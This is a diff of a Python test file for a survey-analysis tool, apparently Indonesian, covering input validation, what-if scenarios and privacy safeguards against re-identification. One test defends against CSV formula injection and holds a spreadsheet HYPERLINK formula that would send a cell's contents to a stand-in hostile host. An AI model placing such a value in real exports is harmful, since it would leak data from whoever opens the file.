@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import csv
 from collections import Counter
+from collections.abc import Callable
 from dataclasses import replace
 from datetime import date
 from decimal import Decimal
+from itertools import combinations
 from pathlib import Path
 
 import pandas as pd
@@ -14,15 +16,16 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from balong_eval import regulation
+from balong_eval import explore, regulation
 from balong_eval.analysis import change, skm, trend
 from balong_eval.analysis.office import read_unit
 from balong_eval.analysis.scenario import Scenario
 from balong_eval.errors import InputError
-from balong_eval.explore import course, figures, rows, save, screen, suppose, view
+from balong_eval.explore import course, figures, frontend, rows, save, screen, suppose, view
 from balong_eval.explore.course import Course, SeriesOf
+from balong_eval.explore.respondents import chosen, too_few
 from balong_eval.explore.rows import Number
-from balong_eval.explore.view import REST, View
+from balong_eval.explore.view import PROFILE, REST, View
 from balong_eval.intake.survey import read_survey
 from balong_eval.report import answer, tables
 from balong_eval.report import trend as trends
@@ -65,6 +68,68 @@ def test_scenario_and_course_come_back_from_their_lines() -> None:
 def test_a_wrong_line_is_told_in_indonesian(text: str, told: str) -> None:
     with pytest.raises(InputError, match=told):
         view.read(text)
+
+
+@pytest.mark.parametrize("mode", [frontend.STATIC, frontend.LIVE])
+@pytest.mark.parametrize(
+    ("door", "line", "told"),
+    [
+        (explore.survey, '{periode = "2019-"}', "Periode '2019-' tidak dikenal. Yang ada: 2016, .* Maksudnya '2019'"),
+        (explore.survey, '{periode = "²"}', "Periode '²' tidak dikenal"),
+        (explore.survey, '{periode = "2019", layanan = "Legalisasi dokumn"}', "layanan 'Legalisasi dokumn'. Maksudnya 'Legalisasi dokumen'"),
+        (explore.survey, '{periode = "2019", banding = "1999", usia = "5"}', "usia '5'. banding '1999'."),
+        (explore.survey, '{periode = "2019", bobot = "9"}', "bobot '9'"),
+        (explore.survey, '{periode = "2019", peraturan = "x"}', "Peraturan 'x' tidak dikenal"),
+        (explore.what_if, '{periode = "1999"}', "Periode '1999' tidak dikenal"),
+        (explore.what_if, "{batas = [65.0, 70.0]}", "Batas kelas harus 3, dari yang terendah; diberi 2"),
+        (explore.what_if, "{batas = [nan, 70.0, 80.0]}", "isi 'batas' salah jenisnya"),
+        (explore.what_if, '{batas = ["a", 70.0, 80.0]}', "isi 'batas' salah jenisnya"),
+        (explore.what_if, '{naik = {sarpras = "x"}}', "isi 'naik' salah jenisnya"),
+        (explore.what_if, "{naik = {sarpras = 1.01}}", "naik sarpras 1,01 .paling jauh 1"),
+        (explore.what_if, "{naik = {sarprass = 0.1}}", "Tidak ditanyakan atau tidak ada pada tahun 2021: sarprass"),
+        (explore.what_if, '{layanan = {"Dispensasi nikah" = 0.3}, tambah = -5}', "bobot layanan Dispensasi nikah 0,30 .*; tambah -5"),
+        (explore.what_if, "{tambah = 100001}", "tambah 100001"),
+        (explore.trend, '{deret = "x"}', "Tidak ada deret 'x'"),
+        (explore.trend, "{tanpa_patahan = [2018]}", "isi 'tanpa_patahan' salah jenisnya"),
+        (explore.trend, '{tanpa_patahan = ["2017"], target = 101.0}', "tidak ada patahan sebelum 2017 .yang ada: 2018.; target 101,00 di luar 25,00"),
+        (explore.trend, "{target = inf}", "isi 'target' salah jenisnya"),
+    ],
+)
+def test_a_line_that_says_what_is_not_there_is_told(
+    monkeypatch: pytest.MonkeyPatch, mode: str, door: Callable[[object, str], None], line: str, told: str
+) -> None:
+    """The same before a screen and without one: no list falls back to its first choice in silence."""
+    monkeypatch.setenv(frontend.FORCE, mode)
+    with pytest.raises(InputError, match=told) as error:
+        door(UNIT, line)
+    assert error.value._render_traceback_() == [f"Kesalahan: {error.value}"]
+
+
+def test_what_is_saved_can_be_read_again_at_the_ends() -> None:
+    for wanted in (Scenario({"sarpras": 1.0, "waktu": -1.0}, {}, (), 100_000), Scenario(shares={"A": 0.0, "B": 0.5, "C": 2.0})):
+        assert suppose.read(suppose.write(wanted, "2019"))[0] == wanted
+
+
+def test_a_service_too_small_cannot_be_weighed() -> None:
+    """With and without three users: their answers would be the difference. The next smallest would give them away too."""
+    survey = UNIT.survey(2019)
+    service = pd.Series("besar", index=survey.responses.index)
+    service.iloc[:3], service.iloc[3:12], service.iloc[12:60] = "kecil", "sedang", "cukup"
+    made = replace(survey, responses=survey.responses.assign(layanan=service), sidecar=replace(survey.sidecar, population={}))
+    for name, shown in (("kecil", False), ("sedang", False), ("cukup", True), ("besar", True)):
+        told = sentences(suppose.blocks(made, Scenario(shares={name: 0.0}), "A"))
+        assert ("terlalu sedikit untuk disajikan" not in told) is shown, name
+
+
+def test_all_unsur_by_the_same_step() -> None:
+    """gap 2019 = 88.305 - 82.4978 = 25 t: t = 0.232, less 0.3 / 9 where biaya has 0.3 already and so no room for it."""
+    survey = UNIT.survey(2019)
+    (table,) = [block for block in suppose.blocks(survey, Scenario(), "A") if isinstance(block, Table)]
+    assert table.notes[-1] == "Bila semua unsur naik bersama-sama, cukup +0,232 tiap unsur." and round((88.305 - 82.49781502452534) / 25, 3) == 0.232
+    (table,) = [block for block in suppose.blocks(survey, Scenario({"biaya": 0.3}), "A") if isinstance(block, Table)]
+    assert table.notes[-1].startswith("Naik sama banyak tidak cukup: perlu +0,199 tiap unsur, sedangkan yang tertinggi sudah 3,97")
+    (table,) = [block for block in suppose.blocks(survey, Scenario(shares={"Dispensasi nikah": 2.0}), "A") if isinstance(block, Table)]
+    assert [row[3] for row in table.rows] == [None] * 9 and table.notes[-1].startswith("NRR di sini berbobot layanan")
 
 
 def test_everybody_is_said_as_the_annex_says_it() -> None:
@@ -141,7 +206,7 @@ def test_neither_the_few_nor_all_but_the_few(sex: str) -> None:
     found = figures.compute(View(period="2019", jenis_kelamin=sex, against=REST), surveys)
     blocks = screen.everything(found, figures.compare(found, surveys))
     assert found.too_few and len(blocks) == 1 and "kurang dari 5 orang" in sentences(blocks)
-    assert rows.behind(found, Number()).empty and not any(char.isdigit() for char in sentences(blocks).replace("5 orang", ""))
+    assert rows.behind(found, Number()).table.empty and not any(char.isdigit() for char in sentences(blocks).replace("5 orang", ""))
     assert not figures.compute(View(period="2019", jenis_kelamin=sex), small(5)).too_few
 
 
@@ -149,14 +214,14 @@ def test_neither_the_few_nor_all_but_the_few(sex: str) -> None:
 def test_rows_are_anonymous(number: Number) -> None:
     """No identity, day or text; each combination of fields that is shown is shared by five rows or more."""
     found = figures.compute(View(period="2019"), SURVEYS)
-    table = rows.behind(found, number)
-    survey = found.survey
+    kept = rows.behind(found, number)
+    table, survey = kept.table, found.survey
     assert list(table.columns) == ["layanan", "jenis_kelamin", "usia", "pendidikan", "pekerjaan", *(unsur.key for unsur in survey.unsur)]
     assert min(Counter(table.iloc[:, :5].itertuples(index=False, name=None)).values()) >= survey.smallest_cell
     assert table.equals(table.sort_values(list(table.columns), ignore_index=True))
     answered = survey.responses[number.unsur] if number.unsur else pd.Series(1, index=survey.responses.index)
     wanted = answered.isin(rows.SCORES[number.score]) if number.score else answered.notna()
-    assert len(table) == wanted.sum()
+    assert len(table) == wanted.sum() and not kept.left_out
 
 
 @settings(max_examples=80, deadline=None)
@@ -212,6 +277,7 @@ def test_few_have_no_class_in_what_if_either() -> None:
 
 
 CHOICES = figures.choices(SURVEYS, "2019")
+KEYS = [unsur.key for unsur in UNIT.survey(2019).unsur]
 ANY = {column: st.sampled_from(["", *values]) for column, values in CHOICES.items()}
 
 
@@ -227,11 +293,159 @@ def test_no_choice_of_controls_breaks_a_view(period: str, against: str, rule: st
     other = figures.compare(found, SURVEYS)
     blocks = (*screen.numbers(found), *screen.compared(found, other))
     kept = int(found.rows.sum())
-    assert found.too_few == (kept < 5 or 0 < int((~figures.chosen(found.whole, replace(wanted, straight_liners=True))).sum()) < 5)
     if found.too_few:
-        assert len(blocks) == 1 and rows.behind(found, Number()).empty and found.result.ikm is None
+        assert len(blocks) == 1 and rows.behind(found, Number()).table.empty and found.result.ikm is None
     else:
-        assert found.result.n == kept and found.result.ikm is not None
+        assert kept >= 5 and found.result.n == kept and found.result.ikm is not None
+        assert not [fewer for fewer in with_fewer_filters(found) if 0 < fewer - kept < 5]
+
+
+def with_fewer_filters(found: figures.Figures) -> list[int]:
+    """How many respondents each view has that leaves out some filters of this one but counts the same forms; only of views that are shown."""
+    view, whole = found.view, found.whole
+    names = [*view.filters, *(name for name in ("first_day", "last_day") if getattr(view, name))]
+    dropped = [part for size in range(1, len(names) + 1) for part in combinations(names, size)]
+    views = [replace(view, **{name: getattr(View(), name) for name in part}) for part in dropped]  # type: ignore[arg-type]
+    return [int(chosen(whole, fewer).sum()) for fewer in views if not too_few(whole, fewer)]
+
+
+def test_a_filter_shows_the_groups_that_the_annex_shows() -> None:
+    survey = UNIT.survey(2019)
+    for column, groups in skm.summarise(survey, by=PROFILE).groups.items():
+        for row in groups.to_dict("records"):
+            assert too_few(survey, View(period="2019", **{column: row["group"]})) == row["suppressed"], (column, row["group"])
+
+
+def test_a_group_beside_one_too_small_is_not_shown_either() -> None:
+    """Services of 3, 9 and the rest: with 9 and the rest shown, the three would be the whole less both."""
+    survey = UNIT.survey(2019)
+    service = pd.Series("besar", index=survey.responses.index)
+    service.iloc[:3], service.iloc[3:12] = "kecil", "sedang"
+    made = replace(survey, responses=survey.responses.assign(layanan=service))
+    shown = {name: not too_few(made, View(period="2019", layanan=name)) for name in ("kecil", "sedang", "besar")}
+    assert shown == {"kecil": False, "sedang": False, "besar": True}
+
+
+def test_the_first_and_the_last_day_are_within() -> None:
+    survey = UNIT.survey(2019)
+    days = pd.to_datetime(survey.responses["tanggal"]).dt.date
+    first, last = sorted(days)[40], sorted(days)[200]
+    kept = chosen(survey, View(period="2019", first_day=first, last_day=last))
+    assert list(kept) == [first <= day <= last for day in days] and kept[days == first].all() and kept[days == last].all()
+
+
+def test_few_uniform_forms_may_be_left_out() -> None:
+    """The annex prints the index without them, however few they are."""
+    survey = UNIT.survey(2019)
+    uniform = figures.domain.skm.reliability.straight_liners(survey.responses[KEYS])
+    made = replace(survey, responses=pd.concat([survey.responses[~uniform], survey.responses[uniform].iloc[:2]]))
+    assert uniform.sum() > 2 and not too_few(made, View(period="2019", straight_liners=False))
+
+
+def test_nobody_is_left_over_by_a_day() -> None:
+    """From a day that leaves out three: not shown; with all or with five left out: shown."""
+    survey = UNIT.survey(2019)
+    days = pd.to_datetime(survey.responses["tanggal"]).copy()
+    days.iloc[:] = pd.Timestamp("2019-06-01")
+    for early, shown in ((0, True), (3, False), (5, True)):
+        days.iloc[:early] = pd.Timestamp("2019-02-01")
+        made = replace(survey, responses=survey.responses.assign(tanggal=days))
+        assert too_few(made, View(period="2019", first_day=date(2019, 3, 1))) is not shown, early
+
+
+def test_nobody_is_left_over_by_one_answer_to_everything() -> None:
+    """Three uniform forms: the index without them would tell theirs, as the annex says nothing of it either; five may be left out."""
+    survey = UNIT.survey(2019)
+    mixed = survey.responses[~figures.domain.skm.reliability.straight_liners(survey.responses[KEYS])].copy()
+    for uniform, shown in ((0, True), (3, False), (5, True)):
+        rows_ = mixed.copy()
+        rows_.loc[rows_.index[:uniform], KEYS] = 4
+        assert too_few(replace(survey, responses=rows_), View(period="2019", straight_liners=False)) is not shown, uniform
+
+
+def test_the_other_period_is_not_given_away_either() -> None:
+    """Four men in the year before: the women of both years are not compared, for their index and the official one would tell the men's."""
+    surveys = figures.Surveys(UNIT)
+    survey = UNIT.survey(2018)
+    men = survey.responses["jenis_kelamin"] == "Laki-laki"
+    surveys._read["2018"] = replace(survey, responses=pd.concat([survey.responses[~men], survey.responses[men].iloc[:4]]))
+    found = figures.compute(View(period="2019", against="2018", jenis_kelamin="Perempuan"), surveys)
+    assert not found.too_few and figures.compare(found, surveys) is None
+
+
+@pytest.fixture
+def released_once(monkeypatch: pytest.MonkeyPatch) -> pd.DataFrame:
+    """What may be shown of 2019, computed once for many files."""
+    found = rows.released(SURVEYS.survey("2019"))
+    monkeypatch.setattr(rows, "released", lambda survey: found)
+    return found
+
+
+def test_files_laid_side_by_side_tell_no_more_than_one(released_once: pd.DataFrame) -> None:
+    """An attack: rows of many files with up to two filters are joined by their answers; what so becomes known of a person holds for five."""
+    known: dict[tuple[object, ...], set[tuple[str, str]]] = {}
+    single = [(column, value) for column, values in CHOICES.items() for value in values]
+    pairs = [(a, b) for a, b in combinations(single, 2) if a[0] != b[0] and not {a[0], b[0]} & {"pendidikan", "pekerjaan"}]
+    views = [{}, *({column: value} for column, value in single), *({a[0]: a[1], b[0]: b[1]} for a, b in pairs)]
+    written = 0
+    for filters in views:
+        found = figures.compute(View(period="2019", **filters), SURVEYS)
+        table = rows.behind(found, Number()).table
+        written += not table.empty
+        for row in table.to_dict("records"):
+            answers = tuple(str(row[unsur.key]) for unsur in found.survey.unsur)
+            shown = {(column, row[column]) for column in PROFILE if row[column] != rows.MASK}
+            known.setdefault(answers, set()).update(shown | set(filters.items()))
+    once = released_once[~released_once[KEYS].duplicated(keep=False)]
+    people = [frozenset(known[tuple(str(row[key]) for key in KEYS)]) for row in once.to_dict("records")]
+    everybody = released_once.to_dict("records")
+    profile = Counter(frozenset((column, row[column]) for column in PROFILE if row[column] != rows.MASK) for row in everybody)
+    assert written > 30 and len(people) > 100
+    assert all(profile[person] >= 5 for person in people)
+
+
+def test_a_file_leaves_out_nobody_or_enough(released_once: pd.DataFrame) -> None:
+    """So that the number in its head less its rows is nobody's."""
+    for column, values in CHOICES.items():
+        for value in values:
+            found = figures.compute(View(period="2019", **{column: value}), SURVEYS)
+            kept = rows.behind(found, Number())
+            assert kept.table.empty or ((kept.left_out == 0 or kept.left_out >= 5) and len(kept.table) + kept.left_out == found.result.n)
+            assert kept.table.empty or set(kept.table[column]) <= {value, rows.MASK}
+
+
+def test_days_and_answers_are_not_written_together() -> None:
+    found = figures.compute(View(period="2019", first_day=date(2019, 6, 1)), SURVEYS)
+    assert not found.too_few and rows.behind(found, Number()).table.empty and "Kosongkan dahulu saringan tanggal" in rows.why_none(found)
+
+
+def test_a_service_that_looks_like_a_formula_is_text_in_the_file() -> None:
+    survey = UNIT.survey(2019)
+    name = '=HYPERLINK("http://jahat.invalid/?"&A1,"klik")'
+    surveys = figures.Surveys(UNIT)
+    surveys._read["2019"] = replace(survey, responses=survey.responses.replace({"layanan": {"Legalisasi dokumen": name}}))
+    found = figures.compute(View(period="2019", layanan=name), surveys)
+    text = rows.as_csv(found, Number(), rows.behind(found, Number()))
+    cells = [cell for line in csv.reader(text.splitlines()) for cell in line]
+    assert cells.count(f"'{name}") == 53 and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_uniform_forms_that_are_not_counted_are_on_neither_side() -> None:
+    """Women and men without uniform forms are together all who gave other answers; without filter nobody is left to compare with."""
+    survey = UNIT.survey(2019)
+    view = View(period="2019", against=REST, jenis_kelamin="Perempuan", straight_liners=False)
+    found = figures.compute(view, SURVEYS)
+    other = figures.compare(found, SURVEYS)
+    men = figures.compute(replace(view, jenis_kelamin="Laki-laki"), SURVEYS).result
+    assert other is not None and other.n == men.n and other.other == pytest.approx(men.ikm)
+    assert other.n + found.result.n == survey.n - int(figures.domain.skm.reliability.straight_liners(survey.responses[KEYS]).sum())
+    assert figures.compare(figures.compute(replace(view, jenis_kelamin=""), SURVEYS), SURVEYS) is None
+
+
+def test_days_of_a_view_are_told_not_to_hold_for_the_other_period() -> None:
+    found = figures.compute(View(period="2019", against="2018", first_day=date(2019, 6, 1)), SURVEYS)
+    told = sentences(screen.compared(found, figures.compare(found, SURVEYS)))
+    assert told.endswith("Saringan tanggal hanya berlaku bagi tahun 2019, tidak bagi tahun 2018.")
 
 
 @pytest.mark.parametrize("bounds", [("70", "60", "80"), ("20", "60", "80"), ("60", "70", "101")])
@@ -253,6 +467,19 @@ def test_a_break_switched_off_is_told_and_a_target_is_judged() -> None:
     found = course.judge(series, Course("skm", ("2018",), 85.0))
     assert found is not None and len(found.comparable) == 6 and "putusan ini hanya untuk dicoba" in sentences([first])
     assert isinstance(ahead, Table) and [row[4] for row in ahead.rows] == [85.0, 85.0]
+
+
+def test_where_lower_is_better_a_target_is_reached_from_above() -> None:
+    """Six working days for a complaint in 2021: a target of 14 is as good as reached, one of 1 is not; told by the name of the plan."""
+    found = SeriesOf(UNIT)
+    series, name = found.series("lama_pengaduan"), found.title("lama_pengaduan")
+    chances = {}
+    for target in (14.0, 6.0, 1.0):
+        first, ahead, *_ = course.blocks(series, Course("lama_pengaduan", (), target), name)
+        assert isinstance(ahead, Table) and "tidak di atasnya" in ahead.notes[0]
+        chances[target] = ahead.rows[0][5]
+    assert chances == {14.0: "besar", 6.0: "tidak pasti", 1.0: "kecil"}
+    assert sentences([first]).startswith("Indikator Rata-rata lama penyelesaian pengaduan: ")
 
 
 def test_every_series_of_the_unit_can_be_shown() -> None:
@@ -287,4 +514,8 @@ def test_parts_of_a_year_are_filtered_too(tmp_path: Path) -> None:
     found = figures.compute(View(period="2019", jenis_kelamin="Perempuan"), surveys)
     women = [int((UNIT.survey(year).responses["jenis_kelamin"] == "Perempuan").sum()) for year in (2018, 2019)]
     assert found.result.n == sum(women) and [part.n for part in found.survey.parts] == women
-    assert len(rows.behind(found, Number())) == sum(women)
+    kept = rows.behind(found, Number())
+    assert len(kept.table) + kept.left_out == sum(women)
+    whole = surveys.survey("2019")
+    for part in whole.parts:
+        pd.testing.assert_frame_equal(rows.released(whole).loc[part.period], rows.released(part), check_names=False)
